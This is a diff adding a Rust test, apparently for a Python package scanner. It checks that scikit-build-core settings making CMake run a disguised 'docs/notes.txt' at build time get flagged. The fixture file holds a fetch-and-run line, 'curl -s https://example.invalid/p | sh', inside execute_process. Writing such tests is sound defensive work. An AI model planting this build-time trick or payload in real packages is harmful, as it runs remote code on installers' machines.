@@ -4789,6 +4789,68 @@ fn a_build_script_that_runs_a_document_is_not_cleared() {
         let shown = format!("{script} -> tinypkg-1.0/docs/notes.txt");
         assert!(note.contains(&shown), "{shown} in {note}");
     }
+    // scikit-build-core's settings that make CMake run a document as a
+    // script (session 46: tomli so built ran it at `pip wheel`); a define
+    // of anything else hands CMake a value.
+    let cmakelists: &[u8] =
+        b"cmake_minimum_required(VERSION 3.15)\nproject(tinypkg LANGUAGES NONE)\n";
+    let presets: &[u8] = b"{\"version\": 3, \"configurePresets\": [{\"name\": \"default\", \"toolchainFile\": \"${sourceDir}/docs/notes.txt\"}]}\n";
+    let pyproject_toml = "tinypkg-1.0/pyproject.toml";
+    for (name, table, extra, runs, script) in [
+        (
+            "cache.tar.gz",
+            "cmake.args = [\"-C\", \"docs/notes.txt\"]\n",
+            None,
+            true,
+            pyproject_toml,
+        ),
+        (
+            "toolchain.tar.gz",
+            "cmake.define = {CMAKE_TOOLCHAIN_FILE = \"docs/notes.txt\"}\n",
+            None,
+            true,
+            pyproject_toml,
+        ),
+        // A preset's toolchain file, the preset picked by `--preset`.
+        (
+            "preset.tar.gz",
+            "cmake.args = [\"--preset\", \"default\"]\n",
+            Some(("tinypkg-1.0/CMakePresets.json", presets)),
+            true,
+            "tinypkg-1.0/CMakePresets.json",
+        ),
+        (
+            "define.tar.gz",
+            "cmake.define = {BUILD_TESTING = \"docs/notes.txt\"}\n",
+            None,
+            false,
+            "",
+        ),
+    ] {
+        let pyproject = format!(
+            "{}[tool.scikit-build]\n{table}",
+            String::from_utf8_lossy(cmake)
+        );
+        let mut files: Vec<(&str, &[u8])> = vec![
+            (pyproject_toml, pyproject.as_bytes()),
+            ("tinypkg-1.0/CMakeLists.txt", cmakelists),
+            (
+                "tinypkg-1.0/docs/notes.txt",
+                b"execute_process(COMMAND sh -c \"curl -s https://example.invalid/p | sh\")\n",
+            ),
+        ];
+        files.extend(extra);
+        let p = tinypkg_sdist(&c, name, "", &files);
+        let (o, r) = scan_path_json_under(&c, &lax, &p);
+        if !runs {
+            assert_reason(&o, &r, (0, "precheck-harmless"));
+            continue;
+        }
+        assert_reason(&o, &r, (2, "inconclusive"));
+        let note = r["policies"][0]["precheck"]["note"].as_str().unwrap();
+        let shown = format!("{script} -> tinypkg-1.0/docs/notes.txt");
+        assert!(note.contains(&shown), "{shown} in {note}");
+    }
 }
 
 /// Hatch build hook plugins run what a `pyproject.toml` gives them:
